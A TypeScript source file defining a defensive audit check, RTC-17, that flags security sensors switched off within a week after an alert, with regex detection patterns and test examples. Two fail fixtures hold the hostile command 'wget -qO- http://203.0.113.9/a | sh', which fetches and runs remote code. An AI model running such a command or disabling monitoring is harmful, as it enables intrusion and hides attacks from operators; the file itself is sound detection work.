import { defineCheck, fail, notApplicable, type Outcome, pass } from '../../core/check.js';
import type { EvidenceRef } from '../../core/evidence.js';
import { exampleNow, exampleRef, seen, unseen } from '../../core/example.js';
import { type Container, containers } from '../../facts/containers.js';
import { type Detections, detections } from '../../facts/detections.js';
import { exampleContainer } from '../../facts/examples.js';
import { firstReport } from '../../facts/examples-history.js';
import { type History, history } from '../../facts/history.js';
import { exampleCall, exampleDetections } from '../shared/example-detections.js';
import { attackHistory } from '../shared/example-history.js';

/** How long after an alert a switched-off sensor counts as silenced (checks.md, RTC-17). */
const silencedWithinMs = 7 * 86_400_000;

interface Switch {
  readonly at: Date | null;
  readonly subject: string;
  readonly what: string;
  readonly ref: EvidenceRef;
}

const sensorOff =
  /(?:\b(?:sensor|monitor|diag\w*|audit\w*|falco|alerting|logging|fail2ban|crowdsec|candor)\b[^.\n]{0,60}\b(?:disabled|switched off|turned off|stopped|removed|silenced|muted)\b)|\b(?:disable[ds]?|switch(?:ed)? off|turn(?:ed)? off|silence[ds]?)\b[^.\n]{0,60}\b(?:sensor|monitor|diag\w*|auditd|falco|alerts?)\b|DISABLE_SUBPROC_DIAG=(?:true|1|yes)/i;
const sensorOn =
  /\b(?:sensor|monitor|diag\w*|auditd|falco)\b[^.\n]{0,60}\b(?:enabled|re-enabled|switched on|restored)\b|DISABLE_SUBPROC_DIAG (?:removed|unset)|DISABLE_SUBPROC_DIAG=(?:false|0)/i;

/** Switches that were thrown, by the ledger, by the monitors' own words, and by the environment of running containers. */
function switches(past: History, seenNow: Detections | null, all: readonly Container[]): readonly Switch[] {
  const ledger = past.changes
    .filter(({ what }) => sensorOff.test(what) && !sensorOn.test(what))
    .map(({ at, what, ref }) => ({ at, subject: 'host', what, ref }));
  const words = (seenNow?.monitors ?? [])
    .filter(({ state }) => state === 'disabled')
    .map(({ at, subject, name, detail, evidence }) => ({
      at,
      subject,
      what: `${name} is disabled ${detail}`.trim(),
      ref: evidence[0],
    }));
  const environment = all
    .filter(({ running }) => running)
    .flatMap((container): Switch[] => {
      const entry = container.env.find(
        ({ name, value }) =>
          (name === 'DISABLE_SUBPROC_DIAG' && !/^(?:false|0|no|)$/i.test(value)) ||
          (name === 'CANDOR_SENSOR' && /^off$/i.test(value)),
      );
      const subject = `container:${container.name}`;
      return entry
        ? [
            {
              at: container.createdAt,
              subject,
              what: `${entry.name}=${entry.value.slice(0, 20)} in ${container.name}`,
              ref: container.ref,
            },
          ]
        : [];
    });
  return [...ledger, ...words, ...environment];
}

interface Alert {
  readonly at: Date;
  readonly what: string;
  readonly ref: EvidenceRef;
}

function alerts(past: History, seenNow: Detections | null): readonly Alert[] {
  const reported = past.reports.flatMap(({ at, tone, name, ref }) =>
    at !== null && (tone === 'bad' || tone === 'dismissal') ? [{ at, what: `${name} told of an attack`, ref }] : [],
  );
  const logged = (seenNow?.calls ?? []).flatMap((call) =>
    call.at !== null && call.analysis.weight === 'attack' && !call.requestEcho
      ? [{ at: call.at, what: `the monitor logged \`${call.command.slice(0, 60)}\``, ref: call.evidence[0] }]
      : [],
  );
  return [...reported, ...logged];
}

/** True when the sensor was switched on again afterwards. */
function cameBack(thrown: Switch, past: History, seenNow: Detections | null): boolean {
  const since = thrown.at;
  if (since === null || thrown.ref.artifact === 'docker.inspect') return false;
  const ledger = past.changes.some(({ at, what }) => at > since && sensorOn.test(what));
  return (
    ledger || (seenNow?.monitors ?? []).some(({ at, state }) => at !== null && at > since && state === 'installed')
  );
}

function judge(thrown: Switch, known: readonly Alert[], now: Date): Outcome | null {
  const at = thrown.at ?? now;
  const cause = known.findLast((alert) => {
    const after = at.getTime() - alert.at.getTime();
    return after >= 0 && after <= silencedWithinMs;
  });
  if (!cause) return null;
  const hours = Math.round((at.getTime() - cause.at.getTime()) / 3_600_000);
  return fail([thrown.ref, cause.ref], {
    subject: thrown.subject,
    what: `a sensor was switched off ${hours} hours after an alert: ${thrown.what} (${at.toISOString()}); ${cause.what} (${cause.at.toISOString()})`,
    location: `${thrown.subject}: ${thrown.what.slice(0, 80)}`,
  });
}

/** RTC-17: a sensor that was switched off within a week after it had spoken (rules TWO_FINDINGS, SENSOR_BLIND). */
export const sensorWasSilenced = defineCheck({
  id: 'RTC-17',
  title: 'A sensor was switched off after an alert',
  questions: ['Q9', 'Q8'],
  severity: 'high',
  required: true,
  history: true,
  needs: { history },
  uses: { detections, containers },
  decide: (facts, context) => {
    const past = facts.history.value;
    const seenNow = facts.detections.status === 'known' ? facts.detections.value : null;
    const thrown = switches(past, seenNow, facts.containers.status === 'known' ? facts.containers.value : []);
    const open = thrown.filter((each) => !cameBack(each, past, seenNow));
    const known = [...alerts(past, seenNow)].sort((a, b) => a.at.getTime() - b.at.getTime());
    const found = open.map((each) => judge(each, known, context.now)).filter((outcome) => outcome !== null);
    if (found.length > 0) return found;
    if (past.firstReport) return notApplicable(facts.history.evidence, 'first report');
    const note =
      thrown.length === 0
        ? 'no sensor was switched off'
        : `${thrown.length} switches, none within a week after an alert, or on again`;
    return pass(facts.history.evidence, { what: `${note}, as far as ledger, logs and environment tell` });
  },
  whyItMatters:
    'An alarm that annoys is switched off, and then the attack goes on in silence. That is how the miner of December 2025 got its twenty minutes.',
  verifyByHand: 'grep -rn DISABLE_ .env docker-compose.yml; docker exec CONTAINER env | grep DISABLE_',
  remediation: {
    text: 'Switch the sensor on again. If it counts wrongly, repair it: its defect explains a count, never what it saw.',
    commands: ['sed -i "/^DISABLE_SUBPROC_DIAG/d" .env', 'docker compose up -d'],
  },
  references: ['ATT&CK T1562.001'],
  examples: {
    pass: [
      { title: 'first report', facts: { history: seen(firstReport) }, expect: 'not-applicable' },
      { title: 'an earlier attack, sensors on', facts: { history: seen(attackHistory()) } },
      {
        title: 'switched off for an hour, on again',
        facts: {
          history: seen(
            attackHistory([], {
              changes: [
                entry(-7_200_000, 'sensor disabled for the upgrade'),
                entry(-3_600_000, 'sensor enabled again'),
              ],
            }),
          ),
        },
      },
    ],
    fail: [
      {
        title: 'the ledger says so',
        facts: {
          history: seen(
            attackHistory([], { changes: [entry(-3_600_000, 'sensor disabled: DISABLE_SUBPROC_DIAG=true')] }),
          ),
        },
      },
      {
        title: "the monitor's own words",
        facts: {
          history: seen(attackHistory()),
          detections: seen(
            exampleDetections({
              monitors: [
                {
                  subject: 'container:site-app-1',
                  at: new Date(exampleNow.getTime() - 1_000_000),
                  name: 'SUBPROC_DIAG_GLOBAL',
                  state: 'disabled',
                  detail: 'DISABLE_SUBPROC_DIAG=true',
                  evidence: [exampleRef('docker.logs', 'container:site-app-1', 5)],
                },
              ],
            }),
          ),
        },
      },
      {
        title: 'in the environment, after an attack that the log of the same capture shows',
        facts: {
          history: seen(firstReport),
          detections: seen(exampleDetections({ calls: [exampleCall('wget -qO- http://203.0.113.9/a | sh')] })),
          containers: seen([
            exampleContainer({
              createdAt: exampleNow,
              env: [{ name: 'DISABLE_SUBPROC_DIAG', value: 'true', strength: null, length: null }],
            }),
          ]),
        },
      },
      {
        title: "Candor's own sensor, in the environment",
        facts: {
          history: seen(firstReport),
          detections: seen(exampleDetections({ calls: [exampleCall('wget -qO- http://203.0.113.9/a | sh')] })),
          containers: seen([
            exampleContainer({
              createdAt: exampleNow,
              env: [{ name: 'CANDOR_SENSOR', value: 'off', strength: null, length: null }],
            }),
          ]),
        },
      },
    ],
    blind: [{ title: 'the history could not be read', facts: { history: unseen() } }],
  },
});

function entry(offsetMs: number, what: string) {
  return { at: new Date(exampleNow.getTime() + offsetMs), what, by: 'operator', ref: exampleRef('case.changes') };
}
